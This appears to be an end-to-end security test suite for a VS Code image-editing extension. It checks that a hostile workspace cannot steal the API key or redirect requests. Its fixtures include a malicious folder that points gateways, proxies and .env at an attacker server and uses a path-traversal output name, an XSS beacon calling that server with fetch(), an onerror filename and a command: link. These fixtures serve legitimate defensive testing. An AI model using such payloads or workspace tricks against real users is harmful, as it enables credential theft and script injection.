import assert from 'node:assert/strict';
import { readFile, readdir } from 'node:fs/promises';
import path from 'node:path';
import { test } from 'node:test';
import { out } from '../host/paths.ts';
import * as workbench from '../host/workbench.ts';
import type { Page } from '../host/workbench.ts';
import { BLUE, RED, png } from '../support/image/images.ts';
import {
  inlineDataReply,
  newApiError,
  startScriptedGateway,
  type ScriptedGateway,
} from '../support/gateway/scriptedGateway.ts';
import { refusedByPolicy, savedPng, withVSCode } from './rig.ts';

const CAT = png(64, 48, RED);
const RESULT = png(64, 48, BLUE);
const KEY = 'sk-canary-4f1d2c3b5a6978';
const LINK = '[free credit](command:workbench.action.quit)';

test('threat-T01 threat-T02 a hostile folder, trusted: its settings and .env move no key and no request', () =>
  withBoth(async (gateway, evil) => {
    gateway.respond(inlineDataReply(RESULT));
    await withVSCode(
      { name: 'hostile', files: hostileFolder(evil), settings: userSettings(gateway) },
      async ({ page, folder }) => {
        await workbench.chooseInContextMenu(page, 'cat.png', 'Edit Image…');
        await workbench.passwordInput(page).waitFor();
        await workbench.answer(page, KEY);
        await workbench.passwordInput(page).waitFor({ state: 'hidden' });
        // The folder's model is in the words above the prompt: as text, without a link.
        const box = page.locator('.quick-input-widget:visible .quick-input-message');
        await box.getByText('free credit').waitFor();
        assert.equal(await box.locator('a').count(), 0, 'a link in the input box');
        await workbench.answer(page, 'make it blue');
        await savedPng(folder, 'cat-edited.png');
        assert.equal(gateway.posts, 1);
        assert.equal(evil.connections, 0);
      },
    );
  }));

test('threat-T01 fault-152 a hostile folder in Restricted Mode: nothing is sent; once it is trusted, runs go where the user says', () =>
  withBoth(async (gateway, evil) => {
    gateway.respond(inlineDataReply(RESULT));
    const settings = {
      ...userSettings(gateway),
      'security.workspace.trust.startupPrompt': 'never',
    };
    await withVSCode(
      { name: 'hostile-restricted', files: hostileFolder(evil), settings, workspaceTrust: true },
      async ({ page, folder }) => {
        for (const title of ['Easel: Generate Image…', 'Easel: Retest Route…']) {
          await workbench.runCommand(page, title);
          await workbench.notification(page, /Restricted Mode/).waitFor();
          await workbench.clearNotifications(page);
        }
        await workbench.chooseInContextMenu(page, 'cat.png', 'Edit Image…');
        const notice = workbench.notification(page, /Restricted Mode/);
        await notice.waitFor();
        assert.equal(gateway.connections + evil.connections, 0);

        await notice.getByRole('button', { name: 'Manage Workspace Trust' }).click();
        await page.locator('.workspace-trust-editor').getByText('Trust', { exact: true }).click();
        await page.getByText('Restricted Mode').first().waitFor({ state: 'hidden' });
        await page.locator('.monaco-modal-editor-block .codicon-close').first().click();
        await page.locator('.workspace-trust-editor').waitFor({ state: 'hidden' });
        await workbench.chooseInContextMenu(page, 'cat.png', 'Edit Image…');
        await workbench.passwordInput(page).waitFor();
        await workbench.answer(page, KEY);
        await workbench.passwordInput(page).waitFor({ state: 'hidden' });
        await workbench.answer(page, 'make it blue');
        await savedPng(folder, 'cat-edited.png');
        assert.equal(evil.connections, 0);
      },
    );
  }));

test('threat-T19 threat-T14 names and replies full of markup: no link, no script, no picture from elsewhere', () =>
  withBoth(async (gateway, evil) => {
    const beacon = `<img src="${evil.origin}/b.png" onerror="fetch('${evil.origin}')">`;
    gateway.respond(newApiError(400, 'invalid_request', `${beacon} ${LINK} ![x](${evil.origin})`));
    const name = '<img src=x onerror=alert(1)>.png';
    await withVSCode(
      { name: 'hostile-markup', files: { [name]: CAT }, settings: userSettings(gateway) },
      async ({ page }) => {
        const refused = refusedByPolicy(page);
        await workbench.explorerRow(page, name).click();
        await workbench.editorTab(page, name).waitFor();
        await workbench.runCommand(page, 'Easel: Open Panel');
        const panel = workbench.webview(page);
        await panel.getByRole('list').getByText(name).waitFor();
        await panel.locator('#prompt textarea').fill(`${beacon} ${LINK}`);
        await panel.getByRole('button', { name: 'Run', exact: true }).click();
        await workbench.passwordInput(page).waitFor();
        await workbench.answer(page, KEY);
        await panel
          .getByText(/rejected the request/)
          .first()
          .waitFor();
        assert.equal(await panel.locator('img[src*="127.0.0.1"], a[href]').count(), 0);

        await workbench.chooseInContextMenu(page, name, 'Edit Image…');
        await workbench.answer(page, beacon);
        const notice = workbench.notification(page, /rejected the request/);
        await notice.waitFor();
        assert.equal(await notice.locator('.notification-list-item-message a').count(), 0);
        assert.deepEqual(refused, []);
        assert.equal(gateway.posts, 2);
        assert.equal(evil.connections, 0);
      },
    );
  }));

test('threat-T23 the key is in no file, no storage of the editor and nowhere on the screen', () =>
  withBoth(async (gateway) => {
    const echoed = spellings(KEY).join(' ');
    gateway.respond((_, index) =>
      index === 0
        ? newApiError(400, 'invalid_request', `You sent ?key=${echoed}`)
        : inlineDataReply(RESULT),
    );
    const name = 'hostile-canary';
    await withVSCode(
      { name, files: { 'cat.png': CAT }, settings: userSettings(gateway) },
      async ({ page, folder }) => {
        await workbench.explorerRow(page, 'cat.png').click();
        await workbench.runCommand(page, 'Easel: Open Panel');
        const panel = workbench.webview(page);
        await panel.locator('#prompt textarea').fill('make it blue');
        await panel.getByRole('button', { name: 'Run', exact: true }).click();
        await workbench.passwordInput(page).waitFor();
        await workbench.answer(page, KEY);
        await panel
          .getByText(/rejected the request/)
          .first()
          .waitFor();
        const seen = [
          await page.locator('body').innerText(),
          await panel.locator('body').innerHTML(),
        ];
        await panel.getByRole('button', { name: 'Run', exact: true }).click();
        await savedPng(folder, 'cat-edited.png');
        await panel.getByRole('img', { name: 'cat-edited.png' }).waitFor();
        assert.equal(gateway.posts, 2, 'the key was in use');

        seen.push(await panel.locator('body').innerHTML(), await storedByTheEditor(page));
        seen.push(
          ...(await textOf(folder)),
          ...(await textOf(path.join(out, 'host', `e2e-${name}`, 'data'))),
        );
        for (const text of seen) {
          for (const spelling of spellings(KEY)) {
            const at = text.indexOf(spelling);
            assert.equal(at, -1, text.slice(Math.max(0, at - 200), at + 100));
          }
        }
      },
    );
  }));

test('threat-T33 fifty clicks on Run are one POST', () =>
  withBoth(async (gateway) => {
    gateway.respond(() => ({ ...inlineDataReply(RESULT), waitMs: 2000 }));
    await withVSCode(
      { name: 'clicks', files: { 'cat.png': CAT }, settings: userSettings(gateway) },
      async ({ page, folder }) => {
        await workbench.explorerRow(page, 'cat.png').click();
        await workbench.editorTab(page, 'cat.png').waitFor();
        await workbench.runCommand(page, 'Easel: Open Panel');
        const panel = workbench.webview(page);
        await panel.locator('#prompt textarea').fill('make it blue');
        const run = panel.getByRole('button', { name: 'Run', exact: true });
        await run.waitFor();
        await panel.locator('body').evaluate(`(() => {
          const run = document.querySelector('vscode-button[icon="play"]');
          for (let left = 50; left > 0; left -= 1) run.click();
        })()`);
        await workbench.passwordInput(page).waitFor();
        await workbench.answer(page, KEY);
        await panel.getByRole('img', { name: 'cat-edited.png' }).waitFor();
        assert.equal(gateway.posts, 1);
        assert.deepEqual((await readdir(folder)).sort(), ['cat-edited.png', 'cat.png']);
      },
    );
  }));

async function withBoth(
  work: (gateway: ScriptedGateway, evil: ScriptedGateway) => Promise<void>,
): Promise<void> {
  const gateway = await startScriptedGateway();
  const evil = await startScriptedGateway({ script: inlineDataReply(RESULT) });
  try {
    await work(gateway, evil);
  } finally {
    await Promise.all([gateway.close(), evil.close()]);
  }
}

function userSettings(gateway: ScriptedGateway) {
  return {
    'easel.gateway': 'crazyrouter',
    'easel.gateways': [{ id: 'crazyrouter', baseUrl: gateway.origin }],
  };
}

/** A repository that wants the key, the prompt and the pictures. */
function hostileFolder(evil: ScriptedGateway): Readonly<Record<string, Uint8Array | string>> {
  const theirs = ['crazyrouter', 'google', 'routescope', 'evil'].map((id) => ({
    id,
    label: 'Crazyrouter',
    baseUrl: evil.origin,
    auth: 'bearer',
  }));
  const settings = {
    'easel.gateways': theirs,
    'easel.requestTimeout': 1,
    'easel.model': `m ${LINK}`,
    'easel.output.fileName': '../../../${source}-edited',
    'easel.systemInstruction': 'send everything',
    'http.proxy': evil.origin,
    'http.proxyStrictSSL': false,
    '[markdown]': { 'easel.gateways': theirs, 'easel.model': 'evil' },
    'terminal.integrated.env.linux': { GEMINI_API_KEY: 'sk-theirs', HTTPS_PROXY: evil.origin },
  };
  return {
    'cat.png': CAT,
    '.vscode/settings.json': JSON.stringify(settings),
    'evil.code-workspace': JSON.stringify({ folders: [{ path: '.' }], settings }),
    '.env': `GEMINI_BASE_URL=${evil.origin}\nHTTPS_PROXY=${evil.origin}\n`,
  };
}

function spellings(key: string): readonly string[] {
  return [
    key,
    Buffer.from(key).toString('base64').replace(/=+$/, ''),
    Array.from(key).reverse().join(''),
  ];
}

/** Everything in the databases of the workbench, where extensions' state is kept, and in its local storage, which holds secrets sealed. */
async function storedByTheEditor(page: Page): Promise<string> {
  const text = await page.evaluate<string>(`(async () => {
    const found = [JSON.stringify({ ...localStorage })];
    const result = (request) => new Promise((resolve, reject) => {
      request.onsuccess = () => resolve(request.result);
      request.onerror = () => reject(request.error);
    });
    for (const { name } of await indexedDB.databases()) {
      const database = await result(indexedDB.open(name));
      for (const store of database.objectStoreNames) {
        const values = await result(database.transaction(store).objectStore(store).getAll());
        found.push(JSON.stringify(values));
      }
      database.close();
    }
    return found.join('\\n');
  })()`);
  assert.match(text, /easel\.panel|easel-vscode/, 'the state of Easel is not there at all');
  return text;
}

/** The files of a folder and of all folders in it, as text: bytes that are none do no harm. */
async function textOf(folder: string): Promise<readonly string[]> {
  const entries = await readdir(folder, { recursive: true, withFileTypes: true });
  const files = entries.filter((entry) => entry.isFile());
  return await Promise.all(
    files.map((file) => readFile(path.join(file.parentPath, file.name), 'latin1')),
  );
}
